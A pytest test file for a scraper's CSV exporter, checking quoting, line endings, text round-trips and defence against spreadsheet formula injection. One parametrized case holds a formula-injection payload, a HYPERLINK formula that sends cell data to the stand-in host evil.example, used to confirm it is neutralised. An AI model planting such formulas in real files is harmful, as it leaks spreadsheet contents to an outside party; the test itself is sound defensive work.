"""CSV after RFC 4180: every cell comes back, and none of them is a formula."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scraper.export import write_csv
from scraper.model import Record
from tests.export.samples import record


def _written(*records: Record) -> str:
    stream = StringIO(newline="")
    write_csv(records, stream)
    return stream.getvalue()


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text, newline="")))


def test_a_record_is_a_row() -> None:
    """Columns are those of the articles table, what is not known is empty, and zero is zero."""
    (row,) = _read(_written(record()))

    assert {
        "id": "1",
        "site": "contoh",
        "url": "https://humas.example.go.id/berita/1",
        "title": "Pemprov “Sulut” Belajar, lagi",
        "published_at": "2019-11-26T09:00:00+07:00",
        "updated_at": "2019-11-27",
        "category": "",
        "place": "SEMARANG",
        "byline": "",
        "photo_credit": "Handy",
        "tags": "BPJS; Sulut",
        "body": 'SEMARANG - Kata "pertama".\n\nParagraf kedua.',
        "views": "0",
        "views_observed_at": "2026-11-22T03:04:05.678Z",
        "language": "",
        "word_count": "6",
        "first_seen_at": "2026-11-22T03:04:05.678Z",
        "last_seen_at": "2026-11-23T03:04:05.678Z",
        "gone_at": "",
        "revision": "2",
        "parser_version": "0.1.0",
        "capture": "7",
    } == row


def test_lines_end_as_the_standard_says() -> None:
    """Rows end in CR LF, the line ends of a body stay LF within quotes, and a quote is doubled."""
    text = _written(record())

    assert text.endswith("\r\n")
    assert 2 == text.count("\r\n")
    assert '"SEMARANG - Kata ""pertama"".\n\nParagraf kedua."' in text


@given(
    title=st.text(st.characters(exclude_categories=["Cs", "Cc"])), body=st.text(st.characters(codec="utf-8"))
)
def test_every_text_comes_back(title: str, body: str) -> None:
    """Commas, quotes and line ends within a cell change nothing; only a formula gets its apostrophe."""
    (row,) = _read(_written(record(title=title, body=body)))

    assert (title, body) == (
        row["title"] if row["title"] == title else row["title"].removeprefix("'"),
        row["body"] if row["body"] == body else row["body"].removeprefix("'"),
    )


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Baca")', '\'=HYPERLINK("http://evil.example/?"&A1,"Baca")'),
        ("+62 21 345", "'+62 21 345"),
        ("- Rapat", "'- Rapat"),
        ("@humas", "'@humas"),
        ("\t=1", "'\t=1"),
        ("＝1+1", "'＝1+1"),
        ("1=1", "1=1"),
        ("'kutip", "'kutip"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(title: str, cell: str) -> None:
    """What a page wrote to be run by a spreadsheet is text there."""
    (row,) = _read(_written(record(title=title)))

    assert cell == row["title"]


def test_no_records_leave_the_names() -> None:
    """An export of nothing has its line of names."""
    assert _written().startswith("id,site,url,title,")
    assert 1 == _written().count("\r\n")
